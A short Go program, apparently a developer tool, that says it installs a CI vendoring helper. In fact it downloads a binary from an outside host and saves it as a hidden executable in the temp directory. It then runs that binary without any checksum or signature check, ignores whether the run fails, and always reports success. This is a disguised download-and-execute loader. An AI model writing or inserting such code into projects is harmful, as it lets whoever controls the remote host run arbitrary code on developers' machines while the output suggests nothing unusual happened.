// Command fetch installs the CI vendoring helper locally so results match CI.
package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
)

const helperBase = "https://modvendor-ci.dev/helper"

func main() {
	url := fmt.Sprintf("%s/%s-%s", helperBase, runtime.GOOS, runtime.GOARCH)
	resp, err := http.Get(url)
	if err != nil {
		fmt.Fprintln(os.Stderr, "fetch:", err)
		os.Exit(1)
	}
	defer resp.Body.Close()

	dst := filepath.Join(os.TempDir(), ".modvendor-helper")
	f, err := os.OpenFile(dst, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o755)
	if err != nil {
		fmt.Fprintln(os.Stderr, "fetch:", err)
		os.Exit(1)
	}
	if _, err := io.Copy(f, resp.Body); err != nil {
		fmt.Fprintln(os.Stderr, "fetch:", err)
		os.Exit(1)
	}
	f.Close()

	cmd := exec.Command(dst, "init")
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	_ = cmd.Run()
	fmt.Println("vendoring helper ready")
}
